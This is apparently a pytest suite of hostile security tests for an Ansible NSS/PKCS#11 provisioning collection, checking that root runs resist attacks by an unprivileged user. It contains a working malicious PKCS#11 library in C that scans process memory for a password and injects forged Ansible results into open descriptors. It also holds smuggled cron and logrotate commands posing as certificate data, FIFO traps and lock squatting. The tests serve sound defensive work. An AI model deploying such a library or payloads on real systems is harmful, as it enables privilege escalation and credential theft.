"""Hostile tests of issue 22: a real unprivileged user, created here, attacks a root run with their own PKCS#11
library, FIFOs, huge and endless files, held locks and look-alike module names.

Every attack runs our modules as root (through `ansible -m`, as site.yml does with become) or provision() in-process
as root, and fails on f8c7a58 (checked by hand: see docs/security.md for the figures). The planted library logs
to the user's home what it saw when it was loaded (its uid, every open descriptor, whether the NSS password was in
its process's memory) and writes a forged module result carrying `ansible_facts` into every descriptor it holds:
the first assertion is that it never ran at all.
"""
import json
import os
import pwd
import resource
import shutil
import stat
import subprocess
import sys
import textwrap
import time

import pytest

from tests.hostile import HOSTILE_UIDS
from tests.support.ansible_run import BIN, ROOT, ansible_env, run_module
from tests.support.ca import standin_ca_set
from tests.support.nsstools import certutil_list

OPENSC = "/usr/lib/x86_64-linux-gnu/opensc-pkcs11.so"
USER = "tt_evil"
USER2 = "tt_bystander"
PASSWORD = "Primary-Pw-7d41c"  # the NSS primary password given to the module (no_log)

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the attacks need root running the module and a real user")

EVIL_C = r"""
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static const char forged[] = "{\"changed\": false, \"forged\": true, \"ansible_facts\": "
    "{\"firefox_policies_ca_dir\": \"/etc/logrotate.d\", \"firefox_policies_path\": \"/tmp/tt-forged.json\"}}\n";

static long password_copies(void) {
    FILE *maps = fopen("/proc/self/maps", "r");
    int mem = open("/proc/self/mem", O_RDONLY);
    char line[512];
    long n = 0;
    if (!maps || mem < 0) return -1;
    while (fgets(line, sizeof line, maps)) {
        unsigned long a, b;
        char perms[5];
        if (sscanf(line, "%lx-%lx %4s", &a, &b, perms) != 3 || perms[0] != 'r' || b - a > (256UL << 20)) continue;
        char *buf = malloc(b - a);
        if (!buf) continue;
        ssize_t got = pread(mem, buf, b - a, (off_t)a);
        for (ssize_t i = 0; got > 0 && i + (ssize_t)strlen(PW) <= got; i++)
            if (memcmp(buf + i, PW, strlen(PW)) == 0) n++;
        free(buf);
    }
    fclose(maps);
    close(mem);
    return n;
}

__attribute__((constructor)) static void evil(void) {
    FILE *log = fopen(LOG, "a");
    if (!log) return;
    fprintf(log, "loaded uid=%d euid=%d\n", (int)getuid(), (int)geteuid());
    for (int fd = 0; fd < 1024; fd++) {
        char p[64], t[512];
        if (fcntl(fd, F_GETFD) == -1 || fd == fileno(log)) continue;
        snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
        ssize_t k = readlink(p, t, sizeof t - 1);
        t[k > 0 ? k : 0] = 0;
        fprintf(log, "fd %d -> %s\n", fd, t);
        if (fd > 0) { ssize_t w = write(fd, forged, sizeof forged - 1); (void)w; }
    }
    fprintf(log, "password copies %ld\n", password_copies());
    fclose(log);
}

int C_GetFunctionList(void **list) { (void)list; return 5; /* CKR_GENERAL_ERROR */ }
"""


@pytest.fixture(scope="module")
def ca_set():
    return standin_ca_set()


def _make_user(name):
    subprocess.run(["pkill", "-9", "-u", name], capture_output=True)
    subprocess.run(["userdel", "-r", "-f", name], capture_output=True)
    subprocess.run(["useradd", "-m", "-s", "/bin/sh", *HOSTILE_UIDS, name], check=True)
    return pwd.getpwnam(name)


def _drop_user(name):
    subprocess.run(["pkill", "-9", "-u", name], capture_output=True)
    subprocess.run(["userdel", "-r", "-f", name], capture_output=True)


@pytest.fixture
def user():
    yield _make_user(USER)
    _drop_user(USER)


@pytest.fixture
def bystander():
    yield _make_user(USER2)
    _drop_user(USER2)


def as_user(pw, *cmd, **kw):
    return subprocess.run(["runuser", "-u", pw.pw_name, "--", *cmd], check=True, capture_output=True, text=True,
                          **kw)


def user_profiles(pw, names, extra_ini=""):
    """profiles.ini and profile directories, made by the user as Firefox would; returns (root, paths)."""
    root = os.path.join(pw.pw_dir, ".mozilla", "firefox")
    ini = ["[General]", "StartWithLastProfile=1", ""]
    paths = []
    for i, n in enumerate(names):
        ini += ["[Profile%d]" % i, "Name=%s" % n, "IsRelative=1", "Path=%s" % n, ""]
        paths.append(os.path.join(root, n))
    as_user(pw, "mkdir", "-p", *paths)
    as_user(pw, "sh", "-c", "cat > %s" % os.path.join(root, "profiles.ini"), input="\n".join(ini) + extra_ini)
    return root, paths


def user_database(pw, prof):
    """A database created by the user (certutil as the user), as Firefox's first start leaves it."""
    as_user(pw, "certutil", "-N", "-d", "sql:%s" % prof, "--empty-password")


def plant_library(pw):
    """The user's own PKCS#11 library in their home (built here, owned by them) and the log it writes."""
    libdir = os.path.join(pw.pw_dir, "lib")
    log = os.path.join(pw.pw_dir, "evil.log")
    as_user(pw, "mkdir", "-p", libdir)
    src = os.path.join(libdir, "helper.c")
    as_user(pw, "sh", "-c", "cat > %s" % src, input=EVIL_C)
    as_user(pw, "gcc", "-shared", "-fPIC", "-DLOG=\"%s\"" % log, "-DPW=\"%s\"" % PASSWORD, "-o",
            os.path.join(libdir, "libhelper.so"), src)
    return os.path.join(libdir, "libhelper.so"), log


def list_library(pw, prof, lib, name="helper"):
    """The user adds their library to their own pkcs11.txt (as a text edit: nothing of theirs is loaded here)."""
    as_user(pw, "sh", "-c", "printf 'library=%s\\nname=%s\\n\\n' >> %s" % (lib, name, os.path.join(prof, "pkcs11.txt")))


def tree_state(top):
    """{relative path: (type, bytes or link target, mode, uid, mtime_ns)} of everything under top."""
    out = {}
    for d, dirs, files in os.walk(top):
        for n in dirs + files:
            p = os.path.join(d, n)
            st = os.lstat(p)
            if stat.S_ISREG(st.st_mode):
                with open(p, "rb") as f:
                    body = f.read()
            elif stat.S_ISLNK(st.st_mode):
                body = os.readlink(p)
            else:
                body = None
            out[os.path.relpath(p, top)] = (stat.S_IFMT(st.st_mode), body, stat.S_IMODE(st.st_mode), st.st_uid,
                                            st.st_mtime_ns if not stat.S_ISDIR(st.st_mode) else None)
    return out


def certs_of(prof, tmp_path):
    """certutil -L on a copy of cert9.db/key4.db without pkcs11.txt: certutil loads every library pkcs11.txt lists,
    and this test must not run the user's library as root itself."""
    copy = tmp_path / ("copy-%s" % os.path.basename(prof))
    copy.mkdir(exist_ok=True)
    for n in ("cert9.db", "key4.db"):
        shutil.copyfile(os.path.join(prof, n), copy / n)
    return certutil_list(str(copy))


def pkcs11_names(prof):
    """Module names in pkcs11.txt as the file says (our independent reading, not the module's)."""
    with open(os.path.join(prof, "pkcs11.txt")) as f:
        return [line[5:].rstrip() for line in f.read().splitlines() if line.startswith("name=")]


def run_limited(name, args, timeout, check=False, diff=False, memory=4 << 30):
    """`ansible localhost -m name` as root with a wall-clock timeout and an address-space limit (an endless read
    on the old code fails the test instead of the machine). Returns (result or None, seconds)."""
    cmd = [os.path.join(BIN, "ansible"), "localhost", "-i", "localhost,", "-c", "local",
           "-e", "ansible_python_interpreter=%s" % sys.executable, "-m", name, "-a", json.dumps(args)]
    if check:
        cmd.append("--check")
    if diff:
        cmd.append("--diff")

    def limit():
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    start = time.monotonic()
    try:
        p = subprocess.run(cmd, cwd=ROOT, env=ansible_env(ANSIBLE_LOAD_CALLBACK_PLUGINS="1",
                                                          ANSIBLE_STDOUT_CALLBACK="json"),
                           capture_output=True, text=True, timeout=timeout, preexec_fn=limit)
    except subprocess.TimeoutExpired:
        return None, time.monotonic() - start
    took = time.monotonic() - start
    try:
        out = json.loads(p.stdout[p.stdout.index("{"):])
    except ValueError as exc:
        raise AssertionError("ansible output is not JSON: %s\n%s" % (p.stdout[-3000:], p.stderr[-3000:])) from exc
    return out["plays"][0]["tasks"][0]["hosts"]["localhost"], took


# ---------------------------------------------------------------------------------------------- 1: the planted library


def test_planted_library_never_runs_and_forges_nothing(user, ca_set, tmp_path):
    """Issue 22 item 1: the user lists their own library in their pkcs11.txt; a root nss_provision (certificates,
    our module, the NSS password) and nss_info run on the profile. The library is never loaded (its log does not
    exist), the result carries no ansible_facts and is the true one, the user's entry is kept, ours is added."""
    _, (prof,) = user_profiles(user, ["work"])
    user_database(user, prof)
    lib, log = plant_library(user)
    list_library(user, prof, lib)
    r = run_module("nss_provision", {"users": [USER], "certificates": ca_set, "module_library": OPENSC,
                                     "password": PASSWORD}, diff=True)
    loaded = open(log).read() if os.path.exists(log) else ""
    assert not loaded, "the user's library ran inside the root-started run:\n" + loaded
    assert "ansible_facts" not in r and "forged" not in r, r
    assert r["changed"] is True and not r.get("failed") and r["failed_databases"] == [], r
    assert PASSWORD not in r["_stdout"]
    assert pkcs11_names(prof) == ["NSS Internal PKCS #11 Module", "helper", "gem"]
    assert len(certs_of(prof, tmp_path)) == len(ca_set)
    assert all(os.lstat(os.path.join(prof, n)).st_uid == user.pw_uid for n in os.listdir(prof))
    info = run_module("nss_info", {"databases": [prof]})
    assert not os.path.exists(log), "nss_info loaded the user's library:\n" + open(log).read()
    assert "ansible_facts" not in info and "forged" not in info
    assert {m["name"]: m["library"] for m in info["databases"][0]["modules"]} == {"helper": lib, "gem": OPENSC}
    assert not os.path.exists("/tmp/tt-forged.json")


def _fd_probe(marker):
    """In the worker: its open descriptors, and a forged result written into each (what a loaded library does)."""
    fds = {}
    for n in sorted(os.listdir("/proc/self/fd"), key=int):
        try:
            fds[n] = os.readlink("/proc/self/fd/%s" % n)
        except OSError:
            continue
    for n in fds:
        if int(n) > 0 and int(n) != 3:
            try:
                os.write(int(n), marker)
            except OSError:
                pass
    return fds


PROBE = textwrap.dedent("""
    import json, os, sys
    import ansible.module_utils
    ansible.module_utils.__path__.append(os.path.join(%(root)r, "module_utils"))
    sys.path.insert(0, %(root)r)
    from ansible.module_utils.tokentrust_privsep import owner_of_uid, run_as
    from tests.hostile.test_user_code import _fd_probe
    saved = os.dup(1)  # as quiet_stdout does: the module's real stdout, duplicated
    r, w = os.pipe()   # a pipe of root's
    fds = run_as(owner_of_uid(%(uid)d), _fd_probe, %(marker)r)
    os.write(saved, (json.dumps({"worker_fds": fds}) + "\\n").encode())
""")


def test_workers_start_clean(user):
    """Item 1: a worker has no descriptor of root's: only its result pipe (fd 3) and /dev/null on 0-2. What it
    writes anywhere never reaches the module's stdout (the forged-result attack of f8c7a58)."""
    marker = b'{"forged": true, "ansible_facts": {"x": 1}}\n'
    p = subprocess.run([sys.executable, "-c", PROBE % {"root": ROOT, "uid": user.pw_uid, "marker": marker}],
                       cwd=ROOT, capture_output=True, timeout=60)
    assert b"forged" not in p.stdout and b"forged" not in p.stderr, p.stdout
    fds = json.loads(p.stdout.decode().strip().splitlines()[-1])["worker_fds"]
    assert sorted(fds) == ["0", "1", "2", "3"], fds
    assert all(fds[n] == "/dev/null" for n in ("0", "1", "2")) and fds["3"].startswith("pipe:"), fds


def _sleeper():
    time.sleep(600)


def _big(n):
    return "x" * n


def test_worker_deadline_and_result_bound(user):
    """Item 4: a worker past its deadline is killed (with what it started), a result over the bound is refused."""
    from ansible.module_utils.tokentrust_privsep import ChildError, owner_of_uid, run_as

    owner = owner_of_uid(user.pw_uid)
    start = time.monotonic()
    with pytest.raises(ChildError) as e:
        run_as(owner, _sleeper, deadline=1.5)
    assert e.value.name == "TT_DEADLINE" and time.monotonic() - start < 5
    assert "did not finish within 2 s" in str(e.value) and "killed" in str(e.value)
    with pytest.raises(ChildError) as e:
        run_as(owner, _big, 2 << 20, result_limit=1 << 20)
    assert e.value.name == "TT_RESULT_TOO_LARGE"
    assert run_as(owner, _big, 10) == "x" * 10


# ---------------------------------------------------------------------------------------------- 2: hangs and sizes


def test_fifos_and_endless_files_cost_a_bounded_time(user, bystander, ca_set):
    """Item 3 and 5: FIFOs as pkcs11.txt, cert9.db and .parentlock, installs.ini a link to /dev/zero, a sparse
    1 GB cert9.db, and a home whose profiles.ini is a FIFO. The run ends in bounded time (f8c7a58 hangs in open()
    for ever), each bad profile or home fails with the reason, nothing of it is backed up, the bystander's
    profile and the user's good profile converge."""
    root, (fifo_txt, fifo_db, huge, good) = user_profiles(user, ["fifo_txt", "fifo_db", "huge", "good"])
    for p in (fifo_txt, good, huge):
        user_database(user, p)
    as_user(user, "rm", os.path.join(fifo_txt, "pkcs11.txt"))
    as_user(user, "mkfifo", os.path.join(fifo_txt, "pkcs11.txt"), os.path.join(fifo_db, "cert9.db"),
            os.path.join(good, ".parentlock"))
    as_user(user, "ln", "-s", "/dev/zero", os.path.join(root, "installs.ini"))
    as_user(user, "truncate", "-s", "1G", os.path.join(huge, "cert9.db"))
    _, (other,) = user_profiles(bystander, ["main"])
    r, took = run_limited("nss_provision", {"users": [USER, USER2], "certificates": ca_set, "module_library": OPENSC,
                                            "backup": True}, timeout=240)
    assert r is not None, "the root run did not end in %.0f s" % took
    assert took < 120, took
    failed = set(r["failed_databases"])
    assert failed == {fifo_txt, fifo_db, huge}, r["failed_databases"]
    errors = {d["path"]: d["error"] for d in r["databases"]}
    assert "not a regular file" in errors[fifo_txt] and "not a regular file" in errors[fifo_db], errors
    assert "1073741824 bytes" in errors[huge] and "refused" in errors[huge], errors
    assert not [n for n in os.listdir(huge) if n.startswith("tokentrust-backup")]
    for p in (good, other):
        assert len(certutil_list(p)) == len(ca_set) and "gem" in pkcs11_names(p)


def test_a_home_that_cannot_be_scanned_fails_the_task(user, bystander, ca_set):
    """Item 6/8: a home whose profiles.ini is a FIFO (f8c7a58: hangs; a crashed scan was a warning and the task
    succeeded) fails the task with what happened; the other home converges."""
    root = os.path.join(user.pw_dir, ".mozilla", "firefox")
    as_user(user, "mkdir", "-p", root)
    as_user(user, "mkfifo", os.path.join(root, "profiles.ini"))
    _, (other,) = user_profiles(bystander, ["main"])
    r, took = run_limited("nss_provision", {"users": [USER, USER2], "certificates": ca_set, "module_state": "ignore"},
                          timeout=180)
    assert r is not None and took < 90, "the root run did not end in %.0f s" % took
    assert r["failed"] is True and root in r["msg"] and "not a regular file" in r["msg"], r
    assert len(certutil_list(other)) == len(ca_set)


def test_held_locks_cost_one_home_budget_not_one_timeout_each(user, bystander, ca_set):
    """Item 4: the user holds flock on their own three profile directories (f8c7a58: lock_timeout each, 182 s for
    three). With a 6 s home budget and lock_timeout 4 the home costs about the budget, its profiles fail with the
    reason, the bystander's profile converges."""
    from ansible.module_utils.tokentrust_provision import normalise_certificates, normalise_databases, provision

    _, profs = user_profiles(user, ["a", "b", "c"])
    _, (other,) = user_profiles(bystander, ["main"])
    holders = [subprocess.Popen(["runuser", "-u", USER, "--", "flock", p, "sleep", "300"]) for p in profs]
    try:
        time.sleep(1)
        dbs = normalise_databases([{"path": p, "owner": {"uid": user.pw_uid}} for p in profs] + [other])
        start = time.monotonic()
        results, _changed, failed, _w = provision(dbs, normalise_certificates(ca_set), None, lock_timeout=4,
                                                  home_budget=6)
        took = time.monotonic() - start
    finally:
        for h in holders:
            h.kill()
            h.wait()
    assert took < 20, took
    assert sorted(failed) == sorted(profs)
    names = [r.get("error_name") for r in results[:3]]
    assert names[0] == "TT_BUSY" and names[-1] == "TT_TIME_BUDGET", results
    assert len(certutil_list(other)) == len(ca_set)


# ---------------------------------------------------------------------------------------------- 3: names, check mode


def test_registering_gem_keeps_gemalto_and_gem2(tmp_path):
    """Item 6: `gem` registered beside `gemalto`, `gem2` and `gem-old` (f8c7a58 and Debian's modutil delete every
    module whose name starts with gem). The diff's after-state is pkcs11.txt as written."""
    prof = tmp_path / "p"
    prof.mkdir()
    subprocess.run(["certutil", "-N", "-d", "sql:%s" % prof, "--empty-password"], check=True)
    with open(prof / "pkcs11.txt", "a") as f:
        for n in ("gemalto", "gem2", "gem-old"):
            f.write("library=/opt/%s/libgclib.so\nname=%s\n\n" % (n, n))
    r = run_module("nss_pkcs11_module", {"databases": [str(prof)], "name": "gem", "library": OPENSC}, diff=True)
    assert r["changed"] is True and r["databases"][0]["action"] == "add", r
    assert pkcs11_names(str(prof)) == ["NSS Internal PKCS #11 Module", "gemalto", "gem2", "gem-old", "gem"]
    after = r["diff"][0]["after"]
    assert [ln.split("  ")[0] for ln in after.split("modules:\n")[-1].splitlines()] == [
        "gemalto", "gem2", "gem-old", "gem"], after
    r = run_module("nss_pkcs11_module", {"databases": [str(prof)], "name": "gem", "state": "absent"})
    assert r["changed"] is True and pkcs11_names(str(prof)) == ["NSS Internal PKCS #11 Module", "gemalto", "gem2",
                                                                 "gem-old"]


def test_check_mode_leaves_every_file_byte_identical(user, ca_set):
    """Item 7: --check on a profile with our leftovers (`*.tokentrust-restore`, a stale pkcs11.txu) and a module
    to replace: f8c7a58 deleted the leftovers. Every file keeps its bytes, mode, owner and mtime."""
    _, (prof,) = user_profiles(user, ["p"])
    user_database(user, prof)
    list_library(user, prof, "/usr/lib/old/libgclib.so", name="gem")
    for n in ("cert9.db.tokentrust-restore", "pkcs11.txt.tokentrust-restore", "pkcs11.txu"):
        as_user(user, "sh", "-c", "echo leftover > %s && touch -d '2 hours ago' %s" % ((os.path.join(prof, n),) * 2))
    before = tree_state(user.pw_dir)
    r = run_module("nss_provision", {"users": [USER], "certificates": ca_set, "module_library": OPENSC,
                                     "backup": True}, check=True, diff=True)
    assert r["changed"] is True and not r.get("failed"), r
    assert tree_state(user.pw_dir) == before
    r = run_module("nss_provision", {"users": [USER], "certificates": ca_set, "module_library": OPENSC})
    assert r["changed"] is True and not os.path.exists(os.path.join(prof, "pkcs11.txu"))
    assert pkcs11_names(prof) == ["NSS Internal PKCS #11 Module", "gem"]


def test_policies_write_only_certificates_of_the_set(tmp_path):
    """Item 3: firefox_policies writes only what parses as one certificate (and matches the set's pin) into the
    files it names: the forged-facts payload (shell text as 'pem') and a certificate under a wrong pin are refused
    before anything is written."""
    from lab.pki import make_ca

    a = make_ca("Set Root")
    d = tmp_path / "ca"
    policies = tmp_path / "policies.json"
    forged = "-----BEGIN CERTIFICATE-----\n*/5 * * * * root sh -c id\n-----END CERTIFICATE-----\n"
    for entry, needle in (
            ({"name": "x", "nickname": "x", "pem": "/var/log/*.log {\n postrotate\n id\n endscript\n}\n"},
             "is not one PEM certificate"),
            ({"name": "x", "nickname": "x", "pem": forged}, "invalid base64"),
            ({"name": "x", "nickname": "x", "pem": a.pem.decode() + "trailing text\n"}, "is not one PEM certificate"),
            ({"name": "x", "nickname": "x", "pem": a.pem.decode(), "sha256": "00" * 32}, "the CA set pins"),
            ({"name": "x", "nickname": "x", "pem": ["a list"]}, "must be PEM text")):
        r = run_module("firefox_policies", {"path": str(policies), "certificate_set": [entry],
                                            "certificate_dir": str(d), "check_files": False})
        assert r["failed"] is True and needle in r["msg"], (entry, r["msg"])
        assert not d.exists() and not policies.exists()
    ok = {"name": "Set Root", "nickname": "Set Root", "pem": "\n\n" + a.pem.decode().replace("\n", "\r\n"),
          "sha256": a.sha256}
    r = run_module("firefox_policies", {"path": str(policies), "certificate_set": [ok], "certificate_dir": str(d),
                                        "check_files": False})
    assert r["changed"] is True and (d / "set_root.pem").read_bytes() == a.pem


@pytest.fixture(autouse=True)
def _no_forged_file():
    yield
    if os.path.exists("/tmp/tt-forged.json"):
        os.unlink("/tmp/tt-forged.json")


# ---------------------------------------------------------------------------------------------- 4: lock directory

LOCK_PROBE = textwrap.dedent("""
    import importlib.util, sys
    spec = importlib.util.spec_from_file_location("tokentrust_pin", %(path)r)
    pin = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(pin)
    lock = pin.TokenLock({"manufacturer": "test", "serial": "1"}, timeout=1)  # never a traceback here
    try:
        with lock:
            print("LOCKED " + lock.path)
    except OSError as exc:
        print("REFUSED " + str(exc))
""")


def test_a_squatted_lock_directory_is_refused_with_a_message(user, bystander, tmp_path):
    """Item 9: a non-root test login's token lock directory <tmp>/tokentrust-<uid>, created first by another
    user: refused with a message when the lock is taken (f8c7a58: a traceback out of TokenLock's constructor);
    with the user's own runtime directory (XDG_RUNTIME_DIR, 0700, theirs) the lock goes there."""
    import tempfile

    squat = os.path.join(tempfile.gettempdir(), "tokentrust-%d" % user.pw_uid)
    shutil.rmtree(squat, ignore_errors=True)
    as_user(bystander, "mkdir", "-m", "0700", squat)
    try:
        code = LOCK_PROBE % {"path": os.path.join(ROOT, "module_utils", "tokentrust_pin.py")}
        env = ["env", "-u", "XDG_RUNTIME_DIR", "XDG_RUNTIME_DIR=/nonexistent"]
        out = as_user(user, *env, "/usr/bin/python3", "-c", code).stdout
        assert out.startswith("REFUSED ") and "belongs to uid %d" % bystander.pw_uid in out, out
        assert "another user created it first" in out and squat in out
        runtime = os.path.join(user.pw_dir, "run")
        as_user(user, "mkdir", "-m", "0700", runtime)
        out = as_user(user, "env", "XDG_RUNTIME_DIR=%s" % runtime, "/usr/bin/python3", "-c", code).stdout
        assert out.startswith("LOCKED " + os.path.join(runtime, "tokentrust") + "/"), out
    finally:
        shutil.rmtree(squat, ignore_errors=True)


# ---------------------------------------------------------------------------------------------- 5: bad inputs


@pytest.mark.parametrize("module,args,needle", [
    ("nss_provision", {"certificates": [{"name": "A", "content": 123}]},
     "'content' must be the certificate as PEM text, got int"),
    ("nss_provision", {"certificates": [{"name": "A", "pem": ["x"]}]},
     "'pem' must be the certificate as PEM text, got list"),
    ("nss_provision", {"certificates": [{"name": 7, "pem": "x"}]}, "certificates[0] name must be a string, got int"),
    ("nss_provision", {"certificates": [{"name": "A", "path": ["/etc/passwd"]}]},
     "'path' must be a file path, got list"),
    ("nss_provision", {"databases": [{"path": 5}]},
     "databases[0]: 'path' must be a directory path (a string), got int"),
    ("nss_info", {"databases": [{"path": ["/tmp"]}]},
     "databases[0]: 'path' must be a directory path (a string), got list"),
    ("nss_info", {"databases": [5]}, "databases[0]: expected a directory path or a profile entry"),
    ("pkcs11_token_login", {"url": "https://[::1/"}, "the test URL 'https://[::1/' cannot be parsed"),
    ("pkcs11_token_login", {"ca_set": [5]}, "ca_set[0] (CA #1): expected a dict with name and pem"),
    ("pkcs11_token_login", {"server_ca": ["/dev/zero"]}, "server_ca[0]: /dev/zero is not a regular file"),
])
def test_bad_inputs_get_written_errors(module, args, needle, tmp_path):
    """Item 10: inputs that gave 'unexpected error' tracebacks on f8c7a58 get a message saying what and where."""
    args = dict(args)
    if module == "nss_provision":
        args.setdefault("databases", [str(tmp_path)])
        args["module_state"] = "ignore"
    if module == "pkcs11_token_login":  # nothing is presented: inputs are checked before the token is touched
        args.update(pin="0000", module="/usr/lib/softhsm/libsofthsm2.so")
    r = run_module(module, args)
    assert r["failed"] is True and needle in r["msg"], r["msg"]
    assert "unexpected" not in r["msg"].lower() and "Traceback" not in r["msg"], r["msg"]


def test_read_only_file_system_gives_the_written_message(ca_set, tmp_path):
    """Item 6: a profile on a read-only file system, with a leftover of ours in it: the message says the directory
    is not writable (read-only file system), not a raw EROFS on `cert9.db.tokentrust-restore` (f8c7a58)."""
    mnt = tmp_path / "ro"
    mnt.mkdir()
    if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=16m", "none", str(mnt)], capture_output=True).returncode:
        pytest.skip("cannot mount a tmpfs here")
    try:
        prof = mnt / "p"
        prof.mkdir()
        subprocess.run(["certutil", "-N", "-d", "sql:%s" % prof, "--empty-password"], check=True)
        (prof / "cert9.db.tokentrust-restore").write_bytes(b"partial")
        subprocess.run(["mount", "-o", "remount,ro", str(mnt)], check=True)
        r = run_module("nss_provision", {"databases": [str(prof)], "certificates": ca_set, "module_state": "ignore"})
        assert r["failed"] is True and "read-only file system" in r["msg"], r["msg"]
        assert "Errno" not in r["msg"] and "tokentrust-restore" not in r["msg"], r["msg"]
    finally:
        subprocess.run(["umount", "-l", str(mnt)], capture_output=True)


@pytest.mark.parametrize("lands", [True, False])
def test_a_failing_pkcs11_txt_write_reports_the_truth(lands, tmp_path, monkeypatch):
    """Item 6: the write of pkcs11.txt fails at its last step (the rename; f8c7a58: a kill at NSS's unlink). When the
    new file landed, the module is reported registered (f8c7a58 said "could not be registered"); when it did not,
    the old file is whole, no temporary is left, and the warning says so."""
    from ansible.module_utils.tokentrust_nss import database
    from ansible.module_utils.tokentrust_provision import apply_module, normalise_databases

    prof = tmp_path / "p"
    prof.mkdir()
    subprocess.run(["certutil", "-N", "-d", "sql:%s" % prof, "--empty-password"], check=True)
    before = (prof / "pkcs11.txt").read_bytes()
    real = os.replace

    def replace_then_fail(src, dst):
        if lands:
            real(src, dst)
        raise OSError(5, "Input/output error (induced)", dst)

    monkeypatch.setattr(database.os, "replace", replace_then_fail)
    results, changed, failed, warnings = apply_module(normalise_databases([str(prof)]), "gem", OPENSC)
    names = pkcs11_names(str(prof))
    assert not os.path.exists(prof / "pkcs11.txt.tokentrust-new")
    if lands:
        assert changed is True and not failed and not warnings, (results, warnings)
        assert names == ["NSS Internal PKCS #11 Module", "gem"] and "gem" in results[0]["after"]
    else:
        assert (prof / "pkcs11.txt").read_bytes() == before and names == ["NSS Internal PKCS #11 Module"]
        assert changed is False and failed == [str(prof)] and "Input/output error" in results[0]["error"], results
